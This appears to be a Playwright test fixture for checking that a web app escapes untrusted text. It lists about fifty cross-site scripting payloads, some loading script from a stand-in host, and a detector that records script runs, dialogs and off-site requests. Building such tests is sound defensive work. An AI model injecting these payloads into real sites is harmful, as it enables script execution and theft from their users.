// Texts that run as scripts wherever a page does not take them for text, and the detector that
// sees it if one does. Each runs `__xss()`, opens a dialog, or calls another host.

import type { BrowserContext } from "@playwright/test";

/** A host that no page of ours calls. */
const ELSEWHERE = "http://xss.test";

export const PAYLOADS = [
  // Elements with handlers
  "<script>__xss()</script>",
  "<ScRiPt>__xss()</sCrIpT>",
  "<script >__xss()</script >",
  "<scr<script>ipt>__xss()</scr</script>ipt><img src=x onerror=__xss()>",
  "<img src=x onerror=__xss()>",
  "<IMG SRC=x ONERROR=__xss()>",
  "<img src=x onerror=alert(1)>",
  "<img src=x onerror=confirm(1)>",
  `<img/src="x"/onerror=__xss()>`,
  "<img src=x:x onerror=__xss()//",
  "<img src=x onerror=window['__xss']()>",
  "<img src=x onerror=&#95;_xss()>",
  "<img src=x onerror=\\u005f_xss()>",
  `<img src=${ELSEWHERE}/beacon>`,
  "<svg onload=__xss()>",
  "<svg/onload=__xss()>",
  "<svg><script>__xss()</script></svg>",
  "<svg><image href=x onerror=__xss()>",
  "<svg><animate onbegin=__xss() attributeName=x dur=1s>",
  "<svg><set onbegin=__xss() attributename=x>",
  "<math><mtext><img src=x onerror=__xss()>",
  "<body onload=__xss()>",
  "<iframe srcdoc='<script>parent.__xss()</script>'>",
  "<iframe src=javascript:parent.__xss()>",
  "<iframe onload=__xss()></iframe>",
  "<object data=javascript:parent.__xss()><img src=x onerror=__xss()>",
  "<embed src=x onerror=__xss()><img src=x onerror=__xss()>",
  "<video src=x onerror=__xss()></video>",
  "<video><source onerror=__xss()></video>",
  "<audio src=x onerror=__xss()></audio>",
  "<details open ontoggle=__xss()>",
  "<input autofocus onfocus=__xss()>",
  "<select autofocus onfocus=__xss()></select>",
  "<textarea autofocus onfocus=__xss()></textarea>",
  "<b id=x tabindex=1 autofocus onfocus=__xss()>x</b>",
  "<style>@keyframes x{}</style><b style=animation-name:x onanimationstart=__xss()>",
  "<link rel=stylesheet href=data:, onerror=__xss() onload=__xss()>",
  `<script src=${ELSEWHERE}/x.js></script>`,
  `<meta http-equiv=refresh content="0;url=${ELSEWHERE}/">`,
  // Ways out of an attribute, another element or a comment
  `"><img src=x onerror=__xss()>`,
  `'><img src=x onerror=__xss()>`,
  `" autofocus onfocus=__xss() x="`,
  `' autofocus onfocus=__xss() x='`,
  `</title><img src=x onerror=__xss()>`,
  `</textarea><svg onload=__xss()>`,
  `</option></select><svg onload=__xss()>`,
  `--><img src=x onerror=__xss()>`,
  // Ways out of a script's text
  `</script><img src=x onerror=__xss()>`,
  `";__xss();//`,
  `javascript:parent.__xss()`,
];

/** Counts executions in every page of a context. */
export class Detector {
  readonly seen: string[] = [];

  async watch(context: BrowserContext, hosts: (host: string) => boolean): Promise<void> {
    await context.exposeBinding("__report", ({ frame }, what: string) => {
      this.seen.push(`${what} ${frame.name()}`);
    });
    await context.addInitScript(() => {
      type Reporting = { __report: (what: string) => void };
      const report = (what: string) => (window as unknown as Reporting).__report(what);
      for (const name of ["__xss", "alert", "confirm", "prompt", "print"]) {
        Object.defineProperty(window, name, { value: () => void report(name) });
      }
    });
    context.on("dialog", (dialog) => {
      this.seen.push(`dialog ${dialog.type()}`);
      void dialog.dismiss();
    });
    context.on("request", (request) => {
      const url = new URL(request.url());
      if (!url.protocol.startsWith("http") || hosts(url.host)) return;
      this.seen.push(`request ${request.url()} ${request.frame().name()}`);
    });
  }
}
